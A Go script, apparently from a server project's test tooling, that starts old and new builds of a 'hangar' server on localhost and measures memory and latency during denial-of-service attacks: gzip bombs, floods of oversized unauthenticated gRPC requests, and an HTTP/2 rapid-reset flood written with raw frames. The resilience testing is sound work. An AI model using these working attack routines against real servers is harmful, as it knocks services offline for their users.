// Command attack runs denial-of-service attacks against two hangar
// binaries in turn and reports, for each, the node's peak resident memory
// and another client's p99 while the attack runs: gzip bombs over REST and
// Connect, 400 gRPC requests of 4 MB without a token, and an HTTP/2 rapid
// reset on 8 connections. Each binary is started as `hangar serve` on the
// embedded store. Usage:
//
//	go build -o /tmp/hangar-old ./cmd/hangar   # at the baseline commit
//	go build -o /tmp/hangar-new ./cmd/hangar
//	go run ./scripts/attack -old /tmp/hangar-old -new /tmp/hangar-new
//
// It measures; it asserts nothing (the tests in e2e do).
package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"

	hangarv1 "github.com/hangarhq/hangar/api/hangar/v1"
)

func rss(pid int) (now, peak int64) {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		k, v, _ := strings.Cut(l, ":")
		kb, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
		switch k {
		case "VmRSS":
			now = kb >> 10
		case "VmHWM":
			peak = kb >> 10
		}
	}
	return
}

func start(bin, addr string, extra ...string) *exec.Cmd {
	dir, _ := os.MkdirTemp("", "atk")
	cmd := exec.Command(bin, append([]string{"serve", "--listen", addr, "--data-dir", dir, "--access-log=false"}, extra...)...)
	stderr, _ := cmd.StderrPipe()
	if err := cmd.Start(); err != nil {
		panic(err)
	}
	up := make(chan struct{})
	go func() {
		sc := bufio.NewScanner(stderr)
		o := sync.Once{}
		for sc.Scan() {
			if strings.Contains(sc.Text(), "hangar serving") {
				o.Do(func() { close(up) })
			}
		}
	}()
	<-up
	return cmd
}

// victim calls GetPlayer in a loop and returns the latencies.
func victim(addr string, stop <-chan struct{}) func() []time.Duration {
	conn, _ := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	pc := hangarv1.NewPlayerServiceClient(conn)
	r, err := pc.CreatePlayer(context.Background(), &hangarv1.CreatePlayerRequest{DisplayName: "Victim"})
	if err != nil {
		panic(err)
	}
	var mu sync.Mutex
	var lat []time.Duration
	done := make(chan struct{})
	go func() {
		defer close(done)
		ctx := context.Background()
		for {
			select {
			case <-stop:
				return
			default:
			}
			t := time.Now()
			cctx, cancel := context.WithTimeout(ctx, 20*time.Second)
			_, err := pc.GetPlayer(withTok(cctx, r.Token), &hangarv1.GetPlayerRequest{PlayerId: r.Player.PlayerId})
			cancel()
			d := time.Since(t)
			if err != nil {
				d = 20 * time.Second
			}
			mu.Lock()
			lat = append(lat, d)
			mu.Unlock()
			time.Sleep(2 * time.Millisecond)
		}
	}()
	return func() []time.Duration { <-done; conn.Close(); return lat }
}

func p99(l []time.Duration) time.Duration {
	if len(l) == 0 {
		return 0
	}
	slices.Sort(l)
	return l[len(l)*99/100]
}

func run(name, label, bin string, attack func(addr string, pid int)) {
	addr := freeAddr()
	cmd := start(bin, addr)
	defer cmd.Process.Kill()
	_, base := rss(cmd.Process.Pid)
	// baseline p99
	stop := make(chan struct{})
	get := victim(addr, stop)
	time.Sleep(2 * time.Second)
	close(stop)
	quiet := p99(get())
	stop = make(chan struct{})
	get = victim(addr, stop)
	attack(addr, cmd.Process.Pid)
	close(stop)
	lat := get()
	now, peak := rss(cmd.Process.Pid)
	fmt.Printf("%-28s %-5s peak RSS %5d MiB -> %5d MiB (now %5d); victim p99 quiet %8v, under attack %8v (%d calls)\n",
		name, label, base, peak, now, quiet.Round(time.Microsecond), p99(lat).Round(time.Microsecond), len(lat))
}

func freeAddr() string {
	l, _ := net.Listen("tcp", "127.0.0.1:0")
	defer l.Close()
	return l.Addr().String()
}

func withTok(ctx context.Context, tok string) context.Context {
	return metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+tok)
}

func bombs(size int) func(addr string, pid int) {
	return func(addr string, pid int) {
		var bomb bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&bomb, gzip.BestCompression)
		zw.Write(bytes.Repeat([]byte{' '}, size))
		zw.Close()
		var wg sync.WaitGroup
		for i := range 16 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for range 4 {
					path := "/v1/players"
					if i%2 == 1 {
						path = "/hangar.v1.PlayerService/CreatePlayer"
					}
					req, _ := http.NewRequest("POST", "http://"+addr+path, bytes.NewReader(bomb.Bytes()))
					req.Header.Set("Content-Type", "application/json")
					req.Header.Set("Content-Encoding", "gzip")
					if resp, err := http.DefaultClient.Do(req); err == nil {
						resp.Body.Close()
					}
				}
			}()
		}
		wg.Wait()
	}
}

// bigRequests: 400 requests of 4 MB over gRPC without a token.
func bigRequests(addr string, pid int) {
	var wg sync.WaitGroup
	big := strings.Repeat("x", 4<<20-64)
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			conn, _ := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()),
				grpc.WithDefaultCallOptions(grpc.MaxCallSendMsgSize(8<<20)))
			defer conn.Close()
			pc := hangarv1.NewPlayerServiceClient(conn)
			var inner sync.WaitGroup
			for range 50 {
				inner.Add(1)
				go func() {
					defer inner.Done()
					ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
					defer cancel()
					pc.CreatePlayer(ctx, &hangarv1.CreatePlayerRequest{DisplayName: big})
				}()
			}
			inner.Wait()
		}()
	}
	wg.Wait()
}

// rapidReset: 8 connections of HEADERS+RST_STREAM for 2 seconds.
func rapidReset(addr string, pid int) {
	var sent, goaways atomic.Int64
	var wg sync.WaitGroup
	deadline := time.Now().Add(2 * time.Second)
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				c, err := net.Dial("tcp", addr)
				if err != nil {
					return
				}
				go func() {
					rd := http2.NewFramer(nil, c)
					for {
						f, err := rd.ReadFrame()
						if err != nil {
							return
						}
						if _, ok := f.(*http2.GoAwayFrame); ok {
							goaways.Add(1)
						}
					}
				}()
				bw := bufio.NewWriter(c)
				fr := http2.NewFramer(bw, nil)
				bw.WriteString(http2.ClientPreface)
				fr.WriteSettings()
				var block bytes.Buffer
				enc := hpack.NewEncoder(&block)
				for i := 0; time.Now().Before(deadline); i++ {
					id := uint32(2*i + 1)
					block.Reset()
					for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
						{Name: ":path", Value: "/hangar.v1.PlayerService/CreatePlayer"}, {Name: ":authority", Value: addr},
						{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}} {
						enc.WriteField(f)
					}
					if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}) != nil ||
						fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
						break
					}
					sent.Add(1)
					if i%50 == 49 && bw.Flush() != nil {
						break
					}
				}
				bw.Flush()
				c.Close()
			}
		}()
	}
	wg.Wait()
	fmt.Printf("  rapid reset: %d HEADERS+RST sent, %d GOAWAYs read\n", sent.Load(), goaways.Load())
}

func main() {
	old := flag.String("old", "/tmp/hangar-old", "the baseline hangar binary")
	nw := flag.String("new", "/tmp/hangar-new", "the hangar binary under test")
	which := flag.String("attacks", "bomb,big,reset", "the attacks to run, comma-separated: bomb, big, reset")
	flag.Parse()
	for _, a := range strings.Split(*which, ",") {
		for i, bin := range []string{*old, *nw} {
			label := []string{"old", "new"}[i]
			switch a {
			case "bomb":
				run("gzip bombs (255 MiB each)", label, bin, bombs(255<<20))
			case "big":
				run("400 x 4 MB requests", label, bin, bigRequests)
			case "reset":
				run("rapid reset", label, bin, rapidReset)
			}
		}
	}
}
